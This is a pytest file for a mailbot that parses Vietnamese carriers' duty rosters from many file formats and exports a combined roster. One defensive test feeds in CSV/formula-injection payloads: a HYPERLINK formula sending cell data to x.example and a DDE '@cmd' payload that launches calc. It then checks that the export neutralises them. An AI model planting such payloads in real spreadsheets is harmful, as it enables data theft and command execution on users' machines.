"""Duty lists as carriers send them: header rows anywhere, several numbers per cell, invalid ones flagged."""

from __future__ import annotations

import io
import zipfile

from mailbot.analysis import dutylist
from mailbot.intake.parse import parse_message
from tests.conftest import FIXTURES, build


def carrier_xlsx() -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Ngày bầu cử"
    ws.append(["TỔNG CÔNG TY DỊCH VỤ VIỄN THÔNG"])
    ws.merge_cells("A1:F1")
    ws.append(["DANH SÁCH CÁN BỘ TRỰC ĐẢM BẢO THÔNG TIN LIÊN LẠC NGÀY BẦU CỬ 23/5/2021"])
    ws.merge_cells("A2:F2")
    ws.append([])
    ws.append(["STT", "HỌ VÀ TÊN", "Chức vụ", "Bộ phận", "Điện thoại", "Ca trực"])
    ws.append([1, "Nguyễn Văn An", "Giám đốc", "Ban Giám đốc", "0913.123.456", "Cả ngày"])
    ws.append([2, "Trần Thị Bích", "Trưởng phòng", "Kỹ thuật", "(0277) 3.851.234 - 0919 222 333", "Ca 1"])
    ws.append([3, "Lê Hoàng Cường", "Điều hành viên", "NOC", "+84 945 111 222", "Ca 2"])
    ws.append([4, "Phạm Văn Dũng", "Nhân viên", "NOC", 913555666, "Ca 2"])  # a number cell: the 0 is lost
    ws.append([5, "Võ Thị Em", "Nhân viên", "NOC", "0913 12", "Ca 3"])  # too short
    ws.append([6, "Đỗ Văn Giàu", "Nhân viên", "NOC", "0123 456 7890", "Ca 3"])  # the old 11-digit prefix
    ws.append([7, "Huỳnh Văn Hải", "Nhân viên", "NOC", "", "Ca 3"])  # missing
    second = wb.create_sheet("Dự phòng")
    second.append(["TT", "Họ tên", "SĐT", "Email"])
    second.append([1, "Lâm Văn Khoa", "0277-3851-999", "khoa@vnpt.vn"])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_a_spreadsheet_with_titles_merged_cells_and_two_sheets() -> None:
    rows = [
        r for source, table in dutylist.tables("DS truc.xlsx", carrier_xlsx()) for r in dutylist.rows_of(table, source)
    ]
    by_name = {r.name: r for r in rows}
    assert list(by_name) == [
        "Nguyễn Văn An",
        "Trần Thị Bích",
        "Lê Hoàng Cường",
        "Phạm Văn Dũng",
        "Võ Thị Em",
        "Đỗ Văn Giàu",
        "Huỳnh Văn Hải",
        "Lâm Văn Khoa",
    ]
    assert [p.e164 for p in by_name["Trần Thị Bích"].phones] == ["+842773851234", "+84919222333"]
    assert [p.display for p in by_name["Trần Thị Bích"].phones] == ["0277 3851 234", "0919 222 333"]
    assert [p.kind for p in by_name["Trần Thị Bích"].phones] == ["cố định", "di động"]
    assert by_name["Lê Hoàng Cường"].phones[0].e164 == "+84945111222"
    assert by_name["Phạm Văn Dũng"].phones[0].e164 == "+84913555666"
    assert by_name["Nguyễn Văn An"].position == "Giám đốc" and by_name["Nguyễn Văn An"].unit == "Ban Giám đốc"
    assert by_name["Nguyễn Văn An"].duty_time == "Cả ngày" and not by_name["Nguyễn Văn An"].problems
    for name in ("Võ Thị Em", "Đỗ Văn Giàu"):  # flagged, kept, never silently dropped
        assert by_name[name].phones[0].e164 is None and by_name[name].problems
    assert by_name["Huỳnh Văn Hải"].problems == ["thiếu số điện thoại"]
    khoa = by_name["Lâm Văn Khoa"]
    assert khoa.email == "khoa@vnpt.vn" and khoa.phones[0].e164 == "+842773851999"
    assert khoa.source == "DS truc.xlsx › Dự phòng"


def attachment_tables(eml: str) -> list[dutylist.DutyRow]:
    msg = parse_message((FIXTURES / eml).read_bytes())
    return [
        r
        for att in msg.attachments
        for source, table in dutylist.tables(att.filename, att.data)
        for r in dutylist.rows_of(table, source)
    ]


def test_an_old_xls_and_a_docx_table() -> None:
    for eml in ("12-old-xls-roster-by-content.eml", "17-plan-mentions-truc-generic-name.eml"):
        rows = attachment_tables(eml)
        assert [r.name for r in rows] == ["Nguyễn Văn An", "Trần Thị Bích", "Lê Hoàng Cường"], eml
        assert [p.e164 for p in rows[1].phones] == ["+842773851234", "+84919222333"], eml


def test_a_list_pasted_in_the_body() -> None:
    msg = parse_message((FIXTURES / "18-duty-list-pasted-in-body.eml").read_bytes())
    rows = dutylist.body_rows(msg.body_text)
    assert [(r.name, r.position, [p.e164 for p in r.phones]) for r in rows] == [
        ("Nguyễn Văn Hùng", "Giám đốc chi nhánh", ["+84913456789"]),
        ("Phạm Thị Lan", "Phó Giám đốc", ["+842773852111"]),
        ("Võ Minh Tâm", "Điều hành", ["+84987654321"]),
    ]


def test_csv_and_a_zip_holding_an_xlsx() -> None:
    csv_rows = [
        r
        for s, t in dutylist.tables(
            "ds.csv", "Họ và tên;Chức vụ;Số ĐT\nNgô Văn Lộc;Trực ban;0913 000 111\n".encode("utf-8")
        )
        for r in dutylist.rows_of(t, s)
    ]
    assert [(r.name, r.phones[0].display) for r in csv_rows] == [("Ngô Văn Lộc", "0913 000 111")]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("DS truc VNPT.xlsx", carrier_xlsx())
    msg = parse_message(build(files=(("Danh sach.zip", buf.getvalue()),)))
    rows = [
        r
        for att in msg.attachments
        if att.container
        for s, t in dutylist.tables(att.filename, att.data)
        for r in dutylist.rows_of(t, s)
    ]
    assert len(rows) == 8 and rows[0].name == "Nguyễn Văn An"


def test_a_plan_that_mentions_duty_gives_no_rows() -> None:
    import docx

    document = docx.Document()
    document.add_paragraph(
        "PHƯƠNG ÁN bảo đảm thông tin liên lạc: bố trí cán bộ trực 24/24, số điện thoại trực 0277 3851 234."
    )
    table = document.add_table(rows=2, cols=2)
    table.rows[0].cells[0].text, table.rows[0].cells[1].text = "Nội dung", "Thời gian"
    table.rows[1].cells[0].text, table.rows[1].cells[1].text = "Kiểm tra trạm BTS", "20/5/2021"
    buf = io.BytesIO()
    document.save(buf)
    assert [r for s, t in dutylist.tables("PA.docx", buf.getvalue()) for r in dutylist.rows_of(t, s)] == []
    assert dutylist.body_rows("Đề nghị bố trí cán bộ trực 24/24.\nTrân trọng.") == []


def test_the_acknowledgement_shows_the_rows_and_asks_for_a_corrected_list(tmp_path, smtp_server) -> None:
    from mailbot import config as configmod
    from mailbot.register.store import Store
    from tests.conftest import deliver, mailbot, write_config

    recorder, port = smtp_server
    config = write_config(tmp_path, port)
    deliver(
        tmp_path,
        build(
            sender="kt@vnpt.vn", subject="Danh sách trực ngày bầu cử", files=(("DS truc VNPT.xlsx", carrier_xlsx()),)
        ),
        "1.a",
    )
    deliver(tmp_path, (FIXTURES / "18-duty-list-pasted-in-body.eml").read_bytes(), "2.b")
    assert mailbot("run", "--config", str(config), "--once").returncode == 0
    acks = {m["To"]: m.get_body(("plain",)).get_content() for m in recorder.parsed()}
    vnpt = acks["kt@vnpt.vn"]
    assert "Danh sách trực đã đọc được (8 người):" in vnpt
    assert "Trần Thị Bích – Trưởng phòng: 0277 3851 234, 0919 222 333" in vnpt
    assert "Võ Thị Em – Nhân viên: 0913 12 (cần kiểm tra:" in vnpt
    assert "gửi lại danh sách đã sửa (3 người" in vnpt  # too short, old prefix, missing
    body_list = acks["dh@viettelpost.com.vn"]
    assert "Danh sách trực đã đọc được (3 người):" in body_list and "gửi lại" not in body_list
    store = Store(configmod.load(config).state_dir)
    subs = {s["organization"]: s for s in store.submissions.all()}
    store.close()
    assert len(subs["vnpt-dongthap"]["rows"]) == 8
    assert subs["viettelpost-dongthap"]["rows"][0]["phones"][0]["e164"] == "+84913456789"


def test_the_roster_of_all_organizations(tmp_path, smtp_server) -> None:
    import csv as csvmod

    import openpyxl

    from tests.conftest import deliver, mailbot, write_config

    _, port = smtp_server
    config = str(write_config(tmp_path, port))
    deliver(tmp_path, build(sender="kt@vnpt.vn", subject="Danh sách trực", files=(("DS.xlsx", carrier_xlsx()),)), "1.a")
    deliver(tmp_path, (FIXTURES / "18-duty-list-pasted-in-body.eml").read_bytes(), "2.b")
    assert mailbot("run", "--config", config, "--once").returncode == 0

    out = mailbot("roster", "--config", config, "--format", "csv")
    assert out.returncode == 0, out.stderr
    rows = list(csvmod.DictReader(out.stdout.splitlines()))
    assert list(rows[0])[:4] == ["organization", "name", "position", "phone"]
    bich = [r["phone"] for r in rows if r["name"] == "Trần Thị Bích"]
    assert bich == ["+842773851234", "+84919222333"]  # two numbers, two rows
    assert [r["problems"] for r in rows if r["name"] == "Huỳnh Văn Hải"] == ["thiếu số điện thoại"]
    orgs = [r["organization"] for r in rows]
    assert orgs.index("Viễn thông Đồng Tháp") < orgs.index("Tổng Công ty CP Bưu chính Viettel – Chi nhánh Đồng Tháp")
    missing = {r["organization"] for r in rows if r["problems"] == "chưa gửi danh sách"}
    assert missing == {"Viettel Đồng Tháp", "Trung tâm Mạng lưới MobiFone miền Nam", "Bưu điện tỉnh Đồng Tháp"}

    done = mailbot("roster", "--config", config, "--format", "xlsx", "--output", str(tmp_path / "roster.xlsx"))
    assert done.returncode == 0 and "Chưa gửi danh sách: Viettel Đồng Tháp" in done.stdout
    sheet = openpyxl.load_workbook(tmp_path / "roster.xlsx").active
    assert [c.value for c in sheet[1]][:4] == ["organization", "name", "position", "phone"]
    assert sheet.max_row == len(rows) + 1

    html = mailbot("roster", "--config", config, "--format", "html").stdout
    assert '<a href="tel:+84919222333">0919 222 333</a>' in html and "@page { size: A4" in html
    assert "Chưa gửi danh sách trực." in html and html.index("Viễn thông Đồng Tháp") < html.index("Viettel Đồng Tháp")
    assert mailbot("roster", "--config", config, "--format", "xlsx").returncode == 1  # needs --output


def test_a_table_in_a_text_pdf_and_an_html_table_in_the_mail() -> None:
    # roster-table.pdf: written with fpdf2 and the DejaVu font (a dev-only tool, like make_fixtures.py)
    data = (FIXTURES.parent / "roster-table.pdf").read_bytes()
    rows = [r for s, t in dutylist.tables("DS truc.pdf", data) for r in dutylist.rows_of(t, s)]
    assert [(r.name, [p.e164 for p in r.phones]) for r in rows] == [
        ("Nguyễn Văn An", ["+84913123456"]),
        ("Trần Thị Bích", ["+842773851234", "+84919222333"]),
        ("Lê Văn Cường", [None]),
    ]
    assert rows[2].problems
    from mailbot.analysis.workers import analyse
    from mailbot.config import example_path, load

    envelope = analyse((FIXTURES / "19-duty-list-html-table.eml").read_bytes(), "19", None, load(example_path()))
    assert [r["name"] for r in envelope.duty_rows["duty-list"]] == ["Nguyễn Văn An", "Trần Thị Bích", "Lê Hoàng Cường"]


def test_mobile_and_office_columns_under_a_merged_phone_header() -> None:
    import docx

    document = docx.Document()
    document.add_paragraph("TRUNG TÂM MẠNG LƯỚI MOBIFONE MIỀN NAM – LỊCH TRỰC")
    table = document.add_table(rows=4, cols=5)
    cells = [
        ["STT", "Họ và tên", "Chức danh", "Số điện thoại", ""],
        ["", "", "", "Di động", "Cơ quan"],
        ["1", "Đặng Văn Minh", "Trưởng ca", "0901 234 567", "(0277) 3 851 777"],
        ["2", "Bùi Thị Ngọc", "Kỹ sư", "0902345678", ""],
    ]
    for r, values in enumerate(cells):
        for c, value in enumerate(values):
            table.rows[r].cells[c].text = value
    table.cell(0, 3).merge(table.cell(0, 4))
    buf = io.BytesIO()
    document.save(buf)
    rows = [r for s, t in dutylist.tables("Lich truc.docx", buf.getvalue()) for r in dutylist.rows_of(t, s)]
    assert [(r.name, r.position, [p.e164 for p in r.phones]) for r in rows] == [
        ("Đặng Văn Minh", "Trưởng ca", ["+84901234567", "+842773851777"]),
        ("Bùi Thị Ngọc", "Kỹ sư", ["+84902345678"]),
    ]


def ods(rows: list[list[str]]) -> bytes:
    """A minimal OpenDocument spreadsheet, as LibreOffice writes its content.xml."""
    ns = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    )
    body = "".join(
        "<table:table-row>"
        + "".join(f"<table:table-cell><text:p>{c}</text:p></table:table-cell>" for c in row)
        + '<table:table-cell table:number-columns-repeated="1020"/></table:table-row>'
        for row in rows
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ns}><office:body>'
        f'<office:spreadsheet><table:table table:name="Trực">{body}</table:table></office:spreadsheet>'
        f"</office:body></office:document-content>"
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content)
    return buf.getvalue()


def test_an_opendocument_spreadsheet() -> None:
    data = ods([["DANH SÁCH TRỰC"], ["STT", "Họ và tên", "Số điện thoại"], ["1", "Mai Văn Tài", "0913 777 888"]])
    rows = [r for s, t in dutylist.tables("DS truc.ods", data) for r in dutylist.rows_of(t, s)]
    assert [(r.name, r.phones[0].e164, r.source) for r in rows] == [
        ("Mai Văn Tài", "+84913777888", "DS truc.ods › Trực")
    ]


def test_nothing_a_sender_wrote_becomes_a_live_formula_in_the_roster(tmp_path, smtp_server) -> None:
    import csv as csvmod
    import zipfile

    import openpyxl

    from tests.conftest import deliver, mailbot, write_config

    hostile = '=HYPERLINK("http://x.example/?"&A1,"Bấm xem")'
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["STT", "Họ và tên", "Chức vụ", "Bộ phận", "Điện thoại"])
    ws.append([1, hostile, "+SUM(1,1)", "@cmd|' /C calc'!A0", "+84 913 777 888"])
    ws.append([2, "-2+3", "Nhân viên", "=1+1", "0913 777 999"])
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # text in the carrier's file, as a careless copy-paste leaves it
    buf = io.BytesIO()
    wb.save(buf)
    _, port = smtp_server
    config = str(write_config(tmp_path, port))
    deliver(tmp_path, build(sender="kt@vnpt.vn", subject="Danh sách trực", files=(("DS.xlsx", buf.getvalue()),)), "1")
    assert mailbot("run", "--config", config, "--once").returncode == 0

    rows = list(csvmod.DictReader(mailbot("roster", "--config", config, "--format", "csv").stdout.splitlines()))
    first = next(r for r in rows if "HYPERLINK" in r["name"])
    assert first["name"] == "'" + hostile and first["position"] == "'+SUM(1,1)"
    assert first["unit"].startswith("'@") and first["phone"] == "+84913777888"  # a phone number stays as it is
    assert next(r for r in rows if r["phone"] == "+84913777999")["unit"] == "'=1+1"
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "@", "-")), (column, value)
            assert not value.startswith("+") or column in ("phone", "phone_display"), (column, value)

    out = tmp_path / "roster.xlsx"
    assert mailbot("roster", "--config", config, "--format", "xlsx", "--output", str(out)).returncode == 0
    with zipfile.ZipFile(out) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula cell at all
    sheet = openpyxl.load_workbook(out).active
    names = [c.value for c in sheet["B"]]
    assert hostile in names  # kept as the sender wrote it, as text
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_the_roster_keeps_the_newest_list_not_the_one_read_last(tmp_path, smtp_server) -> None:
    """A correction sent on 20/5 read first, the list of 18/5 (re-delivered, or read late) after it:
    the roster shows the correction."""
    import csv as csvmod

    from tests.conftest import deliver, mailbot, write_config

    _, port = smtp_server
    config = str(write_config(tmp_path, port))
    body = "Danh sách trực:\nSTT | Họ và tên | Số điện thoại\n1 | Trần Văn Mới | 0913 000 111\n"
    new = build(
        sender="kt@vnpt.vn", subject="Danh sách trực", body=body, headers={"Date": "Thu, 20 May 2021 10:00:00 +0700"}
    )
    deliver(tmp_path, new, "1")
    assert mailbot("run", "--config", config, "--once").returncode == 0
    body = "Danh sách trực:\nSTT | Họ và tên | Số điện thoại\n1 | Lê Văn Cũ | 0913 000 222\n"
    old = build(
        sender="kt@vnpt.vn", subject="Danh sách trực", body=body, headers={"Date": "Tue, 18 May 2021 09:00:00 +0700"}
    )
    deliver(tmp_path, old, "2")
    assert mailbot("run", "--config", config, "--once").returncode == 0

    rows = list(csvmod.DictReader(mailbot("roster", "--config", config, "--format", "csv").stdout.splitlines()))
    assert [r["name"] for r in rows if r["organization"] == "Viễn thông Đồng Tháp"] == ["Trần Văn Mới"]


def test_an_unread_excel_list_is_not_asked_to_be_sent_as_excel(tmp_path, smtp_server) -> None:
    """A spreadsheet whose columns mailbot cannot name: the answer asks for the columns, not for Excel."""
    import openpyxl

    from tests.conftest import deliver, mailbot, write_config

    wb = openpyxl.Workbook()
    wb.active.append(["Cán bộ", "Liên lạc"])
    wb.active.append(["Trần Văn Nam", "0913 123 456"])
    buf = io.BytesIO()
    wb.save(buf)
    recorder, port = smtp_server
    config = str(write_config(tmp_path, port))
    deliver(
        tmp_path, build(sender="kt@vnpt.vn", subject="Danh sách trực", files=(("DS truc.xlsx", buf.getvalue()),)), "1"
    )
    assert mailbot("run", "--config", config, "--once").returncode == 0
    (ack,) = recorder.parsed()
    text = ack.get_body(("plain",)).get_content()
    assert "bảo đảm bảng có cột “Họ và tên” và cột “Số điện thoại”" in text
    assert "Excel hoặc Word" not in text
